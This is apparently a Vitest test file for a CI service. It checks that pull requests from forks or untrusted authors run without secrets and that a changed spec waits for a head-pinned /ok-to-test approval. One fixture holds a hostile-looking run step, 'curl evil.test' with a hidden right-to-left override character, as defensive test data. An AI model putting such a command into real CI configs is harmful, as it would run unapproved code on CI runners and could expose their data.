import { afterEach, beforeEach, expect, test } from 'vitest'
import type { Outcome } from '../../src/core/outcome.ts'
import { createReporter } from '../../src/report/reporter.ts'
import type { RunRow } from '../../src/store/types.ts'
import { REPO } from '../forge/github.ts'
import { startTeam, type Team } from './team.ts'

const FORK = 'mallory/web'
const SPEC = 'version: 1\ntest:\n  unit:\n    image: busybox\n    run: [true]\n'
const EVIL = SPEC.replace('[true]', '["curl evil.test \u202e"]')

let team: Team

beforeEach(async () => {
  team = await startTeam()
  await team.world.push(REPO, 'master', { by: 'ada', message: 'spec', files: { '.penstock.yml': SPEC } })
  await team.settle()
  await team.world.addRepository(FORK, { parent: REPO })
})
afterEach(() => team.stop())

const pushToFork = (files: Readonly<Record<string, string>>, by = 'mallory') =>
  team.world.push(FORK, 'idea', { by, message: 'an idea', files })

async function openFromFork(by = 'mallory'): Promise<number> {
  const { number } = await team.world.openPull(REPO, { by, head: 'mallory:idea', base: 'master', title: 'An idea' })
  await team.settle()
  return number
}

const pulls = async () => (await team.runs()).filter(({ trigger }) => trigger.kind === 'pull_request')
const comments = () => team.world.repo(REPO).comments
const shown = () => comments().find(({ body }) => body.includes('<!-- penstock:ok-to-test -->'))?.body
const starts = async () =>
  (await team.store.outbox.pending()).flatMap(({ message }) => (message.kind === 'start' ? [message.run] : []))

async function says(by: string, number: number, body: string): Promise<void> {
  team.passAtGithub(2000)
  team.world.comment(REPO, number, { by, body })
  await team.settle()
}

async function ends({ id, try: number }: RunRow, outcome: Outcome): Promise<void> {
  await team.store.events.append(id, `end/${number}`, [{ type: 'run.finished.v1', try: number, outcome }])
}

test('a pull request from a fork with the spec of the base branch runs without secrets', async () => {
  const commit = await pushToFork({ 'a.txt': 'x' })
  await openFromFork()

  const [run] = await pulls()

  expect(run).toMatchObject({ status: 'queued', secrets: 'none', change: { commit } })
  expect(await starts()).toContain(run?.id)
})

test('so does one that a trusted person opened for a branch of a fork: its head is a stranger’s commit', async () => {
  await pushToFork({ 'a.txt': 'x' })
  await openFromFork('ada')

  expect(await pulls()).toMatchObject([{ secrets: 'none', change: { author: 'ada' } }])
})

test('and one from a branch here whose author may not write (any more); the names in the commit say nothing', async () => {
  await team.world.push(REPO, 'feature', { by: 'ada', message: 'x', files: { x: 'x' } })
  await team.world.openPull(REPO, { by: 'mallory', head: 'feature', base: 'master', title: 'x' })
  await team.world.push(REPO, 'other', { by: 'mallory', message: 'x', files: { y: 'y' } })
  await team.world.openPull(REPO, { by: 'ada', head: 'other', base: 'master', title: 'x' })
  await team.settle()

  expect((await pulls()).map(({ change, secrets }) => [change.author, secrets])).toEqual([
    ['ada', 'repository'],
    ['mallory', 'none'],
  ])
})

test('the spec of somebody who may write needs nobody’s word', async () => {
  await team.world.push(REPO, 'feature', { by: 'ada', message: 'x', files: { '.penstock.yml': EVIL } })
  await team.world.openPull(REPO, { by: 'ada', head: 'feature', base: 'master', title: 'x' })
  await team.settle()

  expect(await pulls()).toMatchObject([{ status: 'queued', secrets: 'repository' }])
})

test('a changed spec waits, is shown with what cannot be seen written out, and is pending at GitHub, never green', async () => {
  const commit = await pushToFork({ '.penstock.yml': EVIL })
  await openFromFork()

  const [run] = await pulls()

  expect(run).toMatchObject({ status: 'waiting', secrets: 'none', waiting: { kind: 'admission' } })
  expect(await starts()).not.toContain(run?.id)
  expect((await team.store.runs.open()).map(({ id }) => id)).not.toContain(run?.id)
  expect(shown()).toContain('-    run: [true]\n+    run: ["curl evil.test <U+202E>"]')
  expect(shown()).toContain(`/ok-to-test ${commit.slice(0, 12)}`)
  const states = await desired(run)
  expect(states).toMatchObject([
    { context: 'penstock/run', state: 'pending', description: expect.stringContaining('write access') },
    { context: 'penstock/test', state: 'pending', description: expect.stringContaining('write access') },
  ])
})

/** The commit statuses that the reporter wants of a run. */
async function desired(run: RunRow | undefined): Promise<readonly unknown[]> {
  const reporter = createReporter({
    store: team.store,
    portOf: () => ({ setStatus: async () => undefined }) as never,
    urlOf: (number) => `http://ci.test/${number}`,
    testersOf: () => [],
    addressesOf: () => ({}),
    tailOf: async () => [],
    mask: (_repo, text) => text,
    clock: Date.now,
    log: { error: () => {}, warn: () => {} } as never,
  })
  await reporter.once()
  const unsent = await team.store.reports.unsent()
  return unsent
    .filter((one) => one.kind === 'status' && one.subject === run?.change.commit)
    .map(({ content }) => content)
    .sort((one, other) => (one as { context: string }).context.localeCompare((other as { context: string }).context))
}

test('/ok-to-test of somebody with write access lets this head run, still without secrets, and not the next', async () => {
  await pushToFork({ '.penstock.yml': EVIL })
  const number = await openFromFork()

  await says('mallory', number, '/ok-to-test')
  expect(await pulls()).toMatchObject([{ status: 'waiting' }])
  await says('ben', number, '/ok-to-test')
  const [run] = await pulls()
  expect(run).toMatchObject({ status: 'queued', secrets: 'none', approval: { by: 'ben' } })
  expect(await starts()).toContain(run?.id)
  expect(shown()).toContain('was let in by `ben`')

  await pushToFork({ '.penstock.yml': `${EVIL}# more\n` })
  await team.settle()
  expect((await pulls()).map(({ status }) => status)).toEqual(['waiting', 'queued'])
})

test('a head that came while somebody wrote is not what they looked at', async () => {
  await pushToFork({ '.penstock.yml': EVIL })
  const number = await openFromFork()
  team.passAtGithub(2000)
  const looked = await pulls()
  // GitHub tells of both at once: the comment is dealt with when the new head is there.
  team.world.comment(REPO, number, { by: 'ben', body: '/ok-to-test' })
  team.world.comment(REPO, number, { by: 'ben', body: `/ok-to-test ${looked[0]?.change.commit}` })
  await pushToFork({ '.penstock.yml': `${EVIL}# worse\n` })
  await team.settle()

  expect((await pulls()).map(({ status, approval }) => [status, approval])).toEqual([
    ['waiting', undefined],
    ['canceled', undefined],
  ])
  expect(comments().filter(({ body }) => /^@ben the head /.test(body))).toHaveLength(2)
})

test('a word that was written before this head was shown, and came late, is not about it', async () => {
  await pushToFork({ '.penstock.yml': EVIL })
  const number = await openFromFork()
  team.passAtGithub(2000)
  const then = team.world.now()
  team.passAtGithub(2000)
  const commit = await pushToFork({ '.penstock.yml': `${EVIL}# worse\n` })
  await team.settle()

  const comment = team.world.comment(REPO, number, { by: 'ben', body: '/ok-to-test' })
  Object.assign(comment, { createdAt: then, updatedAt: then })
  await team.settle()

  expect((await pulls())[0]).toMatchObject({ status: 'waiting', change: { commit } })
  expect(comments().at(-1)?.body).toContain(`name it: /ok-to-test ${commit.slice(0, 12)}`)
})

test('a named head is let in; a comment that was changed is not heard', async () => {
  const commit = await pushToFork({ '.penstock.yml': EVIL })
  const number = await openFromFork()

  team.passAtGithub(2000)
  const comment = team.world.comment(REPO, number, { by: 'ben', body: `/ok-to-test ${commit.slice(0, 9)}` })
  comment.updatedAt = '2031-01-01T00:00:00Z'
  await team.settle()
  expect(await pulls()).toMatchObject([{ status: 'waiting' }])
  await says('ada', number, `/ok-to-test ${commit.slice(0, 9)}`)

  expect(await pulls()).toMatchObject([{ status: 'queued', approval: { by: 'ada' } }])
})

test('a delivery that comes again, and a kill before its end, change nothing', async () => {
  await pushToFork({ '.penstock.yml': EVIL })
  const number = await openFromFork()
  await says('ben', number, '/ok-to-test')
  const { id } = team.world.comment(REPO, number, { by: 'ben', body: 'thank you' })
  await team.settle()
  const before = [await pulls(), comments().length, await starts()]

  for (const notice of [
    { kind: 'pull_request', number } as const,
    ...comments().map((one) => ({ kind: 'comment', pullRequest: number, comment: String(one.id) }) as const),
  ]) {
    const delivery = { source: 'github', id: JSON.stringify(notice), event: 'x', bodyDigest: 'x' }
    await team.store.deliveries.recordNotice(delivery, REPO, notice)
  }
  await team.settle()

  expect(id).toBeGreaterThan(0)
  expect([await pulls(), comments().length, await starts()]).toEqual(before)
})

test('what waits ends with its pull request, and is not let in by trying it again', async () => {
  await pushToFork({ '.penstock.yml': EVIL })
  const number = await openFromFork()
  team.world.closePull(REPO, number, 'mallory')
  await team.settle()
  expect(await pulls()).toMatchObject([{ status: 'canceled', held: expect.any(String) }])
  team.world.reopenPull(REPO, number, 'mallory')
  await says('ben', number, '/retry')

  const [run] = await pulls()
  expect(run).toMatchObject({ status: 'canceled', try: 1 })
  expect(await team.store.runs.retry(run?.id ?? '', 1, 'ben')).toEqual({ kind: 'refused', why: 'held' })
  await says('ben', number, '/ok-to-test')
  expect(await pulls()).toMatchObject([{ status: 'queued', try: 2, secrets: 'none' }])
})

test('/retry and the button try a stranger’s run again as what it was, for people with write access, once', async () => {
  await pushToFork({ 'a.txt': 'x' })
  const number = await openFromFork()
  const [run] = await pulls()
  if (run === undefined) throw new Error('no run')
  await ends(run, 'failed')

  await says('mallory', number, '/retry')
  expect(await pulls()).toMatchObject([{ try: 1 }])
  await says('ada', number, '/retry')
  expect(await pulls()).toMatchObject([{ try: 2, status: 'queued', secrets: 'none' }])

  await ends({ ...run, try: 2 }, 'failed')
  const [, retry] = comments().filter(({ body }) => body === '/retry')
  const notice = { kind: 'comment', pullRequest: number, comment: String(retry?.id) } as const
  const again = { source: 'github', id: 'again', event: 'issue_comment', bodyDigest: 'x' }
  await team.store.deliveries.recordNotice(again, REPO, notice)
  await team.settle()
  expect(await pulls()).toMatchObject([{ try: 2 }])

  const put = await team.forge.checks?.put({
    ...{ commit: run.change.commit, name: 'penstock', key: `${run.id}/2` },
    ...{ state: 'failure', title: '', summary: '' },
  })
  team.world.clickCheck(REPO, put?.kind === 'put' ? Number(put.id) : 0, 'ada', 'retry')
  await team.settle()
  expect(await pulls()).toMatchObject([{ try: 3, secrets: 'none' }])
})

test('a label, and opening it again, open no other door', async () => {
  await pushToFork({ '.penstock.yml': EVIL })
  const number = await openFromFork()
  team.world.label(REPO, number, 'ok-to-test', 'ben')
  await team.settle()
  team.world.closePull(REPO, number, 'mallory')
  team.world.reopenPull(REPO, number, 'mallory')
  await team.settle()

  expect((await pulls()).map(({ secrets, held }) => [secrets, held !== undefined])).toEqual([['none', true]])
  expect(await starts()).not.toContain((await pulls())[0]?.id)
})

test('no secret is in what a fork is shown, and a long difference says that there is more', async () => {
  await pushToFork({ '.penstock.yml': `${SPEC}${'# line\n'.repeat(2000)}` })
  await openFromFork()

  expect(shown()?.length).toBeLessThan(65_536)
  expect(shown()).toMatch(/\*\*1[0-9]{3} more lines are not shown here\.\*\*/)
})
